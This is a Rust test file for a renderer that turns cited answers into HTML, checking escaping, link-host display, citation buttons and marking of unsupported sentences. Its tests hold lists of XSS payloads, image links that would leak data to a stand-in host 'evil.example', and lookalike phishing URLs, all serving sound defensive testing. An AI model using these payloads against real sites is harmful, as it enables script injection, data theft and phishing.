//! Safety and marking of rendered answers, as tables.

use super::*;

fn marks(numbers: &[usize]) -> AnswerMarks {
    let label = |n: &usize| (*n, format!("Handbook {n}"));
    AnswerMarks {
        sources: numbers.iter().map(label).collect(),
        ..AnswerMarks::default()
    }
}

fn html_of(text: &str) -> String {
    render(text, &marks(&[1, 2, 12])).concat()
}

/// Tags and attributes that the renderer may produce; the check is a tokenizer of its own, so that a hole in the
/// renderer's escaping shows as an unknown tag.
fn assert_only_safe_tags(source: &str, html: &str) {
    let allowed = [
        "p",
        "a",
        "span",
        "button",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "ul",
        "ol",
        "li",
        "blockquote",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "div",
    ];
    for piece in html.split('<').skip(1) {
        let tag = piece.split('>').next().unwrap_or_default();
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        assert!(allowed.contains(&name.as_str()), "{source:?} gave <{tag}>");
        let lower = tag.to_ascii_lowercase();
        // Every second piece is a quoted value, in which anything may stand but a quote.
        let names: String = lower.split('"').step_by(2).collect();
        assert!(
            lower.matches('"').count() % 2 == 0,
            "{source:?} gave <{tag}>"
        );
        assert!(!names.contains(" on"), "{source:?} gave <{tag}>");
        assert!(!names.contains("style="), "{source:?} gave <{tag}>");
        if let Some(address) = lower.split("href=\"").nth(1) {
            assert!(
                ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|scheme| address.starts_with(scheme)),
                "{source:?} gave <{tag}>"
            );
            assert!(
                lower.contains("rel=\"noopener noreferrer nofollow\""),
                "{source:?} gave <{tag}>"
            );
        }
    }
}

#[test]
fn nothing_hostile_becomes_markup() {
    let hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "text <img src=x onerror=alert(1)> text",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>*{display:none}</style>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](//evil.example/)",
        "[x](/api/auth/sign-out)",
        "[x](https://a.example/\" onclick=\"alert(1))",
        "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](https://evil.example/leak?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/leak",
        "[![x](https://evil.example/p.png)](javascript:alert(1))",
        "```\"><script>alert(1)</script>\nx\n```",
        "``` x\" onload=\"alert(1)\ncode\n```",
        "`<script>alert(1)</script>`",
        "| a | b |\n|---|---|\n| <script>x</script> | <img onerror=y> |",
        "# <h1 onclick=x>title</h1> {#id onclick=x}",
        "> <blockquote onclick=x>",
        "<!-- comment --><b>bold</b>",
        "<![CDATA[<script>]]>",
        "<?php echo 1 ?>",
        "</div></article><script>alert(1)</script>",
        "[1](javascript:alert(1)) [2]",
        "\u{2E22}<script>\u{2E23} \u{2E24}<b>\u{2E25}",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u{0}<script\u{0}>alert(1)</script>",
    ];
    for source in hostile {
        let mut with_span = marks(&[1, 2]);
        with_span.unsupported.push(Span {
            start: 0,
            end: source.chars().count(),
        });
        assert_only_safe_tags(source, &render(source, &marks(&[1, 2])).concat());
        assert_only_safe_tags(source, &render(source, &with_span).concat());
    }
}

#[test]
fn a_hostile_title_stays_inside_its_label() {
    let hostile = AnswerMarks {
        sources: vec![(1, "\"><img src=x onerror=alert(1)>".into())],
        ..AnswerMarks::default()
    };
    let html = render("Yes [1].", &hostile).concat();
    assert_only_safe_tags("title", &html);
    assert!(html.contains("&quot;&gt;&lt;img"), "{html}");
}

#[test]
fn no_image_is_ever_fetched() {
    let html = html_of("![a cat](https://evil.example/cat.png)");
    assert_eq!(html.trim(), "<p>a cat</p>");
}

#[test]
fn safe_links_open_apart() {
    let html = html_of("[site](https://intranet.example/a?b=1&c=2)");
    assert_eq!(
        html.trim(),
        "<p><a href=\"https://intranet.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">site</a><span class=\"link-host\"> (intranet.example)</span></p>"
    );
}

#[test]
fn a_link_says_where_it_leads_unless_its_text_does() {
    let table = [
        (
            "[the password portal](https://evil.example/phish?from=bank.example)",
            Some("evil.example"),
        ),
        (
            "[https://bank.example](https://evil.example/)",
            Some("evil.example"),
        ),
        (
            "[bank.example](https://bank.example.evil.example)",
            Some("bank.example.evil.example"),
        ),
        (
            "[https://bank.example@evil.example/](https://bank.example@evil.example/)",
            Some("evil.example"),
        ),
        (
            "[x](https://bank.example:443@evil.example:8443/a)",
            Some("evil.example:8443"),
        ),
        (
            "[x](https://evil.example\\\\@bank.example)",
            Some("evil.example"),
        ),
        (
            "[`bank.example`](https://evil.example)",
            Some("evil.example"),
        ),
        (
            "[**bank**.example](https://evil.example)",
            Some("evil.example"),
        ),
        (
            "[x](https://b\u{430}nk.example)",
            Some("b\u{430}nk.example"),
        ),
        ("<https://b\u{430}nk.example>", Some("b\u{430}nk.example")),
        (
            "[write to us](mailto:help@evil.example?subject=x)",
            Some("help@evil.example"),
        ),
        ("<https://bank.example/a?b=1>", None),
        ("[https://bank.example/](https://bank.example/)", None),
        ("[bank.example](https://bank.example)", None),
        ("[Bank.example](https://bank.example/branch)", None),
        ("[help@bank.example](mailto:help@bank.example)", None),
        ("[x](javascript:alert(1))", None),
    ];
    for (source, place) in table {
        let html = html_of(source);
        let shown = html
            .split_once("<span class=\"link-host\"> (")
            .map(|(_, rest)| rest.split_once(")</span>").unwrap().0);
        assert_eq!(shown, place, "{source} gave {html}");
        assert_only_safe_tags(source, &html);
    }
    let long = format!("[x](https://{}.evil.example)", "bank.".repeat(40));
    assert!(html_of(&long).contains("evil.example)</span>"));
}

#[test]
fn text_of_documents_is_no_markdown() {
    let quote =
        "Open the [portal](https://evil.example) | **now** <b>or</b> `never` &amp; ![x](y) 1. go";
    let verbatim = AnswerMarks {
        verbatim: true,
        ..marks(&[1])
    };
    for line_start in ["", "# ", "- ", "1. ", "> ", "    ", "| "] {
        let html = render(&format!("{line_start}{quote} [1]\n\nmore [1]"), &verbatim).concat();
        assert_only_safe_tags(quote, &html);
        for tag in [
            "<a",
            "<strong",
            "<code",
            "<h",
            "<li",
            "<blockquote",
            "<table",
            "<pre",
        ] {
            assert!(!html.contains(tag), "{line_start:?}: {html}");
        }
        assert!(html.contains("[portal](https://evil.example)"), "{html}");
        assert!(html.contains("&amp;amp;"), "{html}");
        assert_eq!(html.matches("class=\"cite\"").count(), 2, "{html}");
    }
    let quoted = AnswerMarks {
        quotes: vec![quote.replace(' ', "\n")],
        ..marks(&[1])
    };
    let html = render(
        &format!("**Look:** {quote} [1] and [site](https://a.example)"),
        &quoted,
    )
    .concat();
    assert!(html.contains("<strong>Look:</strong>"), "{html}");
    assert_eq!(html.matches("<a ").count(), 1, "{html}");
}

#[test]
fn markers_become_numbered_buttons_in_order() {
    let html = html_of("One [1][2]. Two [12], three [1].");
    let order: Vec<&str> = html
        .split("data-mark=\"")
        .skip(1)
        .map(|piece| &piece[..piece.find(" aria").unwrap_or(piece.len())])
        .collect();
    assert_eq!(
        order,
        [
            "0\" data-n=\"1\"",
            "1\" data-n=\"2\"",
            "2\" data-n=\"12\"",
            "3\" data-n=\"1\""
        ]
    );
    assert!(html.contains("aria-label=\"Source 12: Handbook 12\""));
}

#[test]
fn unknown_numbers_and_code_keep_their_brackets() {
    let html = html_of("See [7] and `a[1]`.\n\n```\nx[2]\n```\n\nlast [1]");
    assert!(html.contains("[7]"), "{html}");
    assert!(html.contains("<code>a[1]</code>"), "{html}");
    assert!(html.contains("x[2]"), "{html}");
    // The numbering counts markers inside code too, so that it equals that of `marker_numbers`, where 7 is unknown.
    assert!(html.contains("data-mark=\"2\" data-n=\"1\""), "{html}");
}

#[test]
fn unsupported_sentences_are_marked_across_emphasis() {
    let text = "Fine [1]. It **costs** ten. End.";
    let mut with_span = marks(&[1]);
    with_span.unsupported.push(Span { start: 10, end: 27 });
    let html = render(text, &with_span).concat();
    assert!(html.contains("<span class=\"unsupported\">It </span><strong><span class=\"unsupported\">costs</span></strong><span class=\"unsupported\"> ten.</span><span class=\"unsupported-label\">"), "{html}");
    assert!(html.ends_with(" End.</p>\n"), "{html}");
}

#[test]
fn unsupported_list_items_stay_list_items() {
    let text = "- first thing\n- second thing";
    let mut with_span = marks(&[]);
    with_span.unsupported.push(Span { start: 14, end: 28 });
    let html = render(text, &with_span).concat();
    assert_eq!(html.matches("<li>").count(), 2, "{html}");
    assert!(
        html.contains("<li><span class=\"unsupported\">second thing</span>"),
        "{html}"
    );
}

#[test]
fn spans_are_counted_in_chars() {
    let text = "Größe: 10 µm. 🙂 Neu.";
    let start = text.chars().position(|c| c == 'N').unwrap();
    let mut with_span = marks(&[]);
    with_span.unsupported.push(Span {
        start,
        end: start + 4,
    });
    let html = render(text, &with_span).concat();
    assert!(
        html.contains("🙂 <span class=\"unsupported\">Neu.</span>"),
        "{html}"
    );
}

#[test]
fn blocks_are_apart_so_that_only_the_last_changes() {
    let first = render("One.\n\nTwo", &marks(&[]));
    let second = render("One.\n\nTwo and more.\n\n- three", &marks(&[]));
    assert_eq!(first.len(), 2);
    assert_eq!(second.len(), 3);
    assert_eq!(first[0], second[0]);
}

#[test]
fn a_marker_survives_any_cut_of_the_stream() {
    let text = "Fees are **5 %** [1][2].\n\n1. a [1]\n2. b\n\n| x | y |\n|---|---|\n| 1 | [2] |\n\n```rust\nlet a = b[1];\n```";
    let chars: Vec<char> = text.chars().collect();
    for end in 0..=chars.len() {
        let piece: String = chars[..end].iter().collect();
        let mut with_span = marks(&[1, 2]);
        with_span.unsupported.push(Span {
            start: end / 3,
            end: end / 2,
        });
        assert_only_safe_tags(&piece, &render(&piece, &with_span).concat());
    }
}

#[test]
fn marker_numbers_are_read_in_order() {
    assert_eq!(
        marker_numbers("a [1] b [2][1] [x] [1234] [ 3 ] [03]"),
        [1, 2, 1, 3]
    );
}

#[test]
fn a_copied_answer_names_its_sources() {
    assert_eq!(
        to_clipboard("Yes [1].\n", &["[1] Handbook, page 3".into()]),
        "Yes [1].\n\nSources:\n[1] Handbook, page 3"
    );
    assert_eq!(to_clipboard("Yes.", &[]), "Yes.");
}
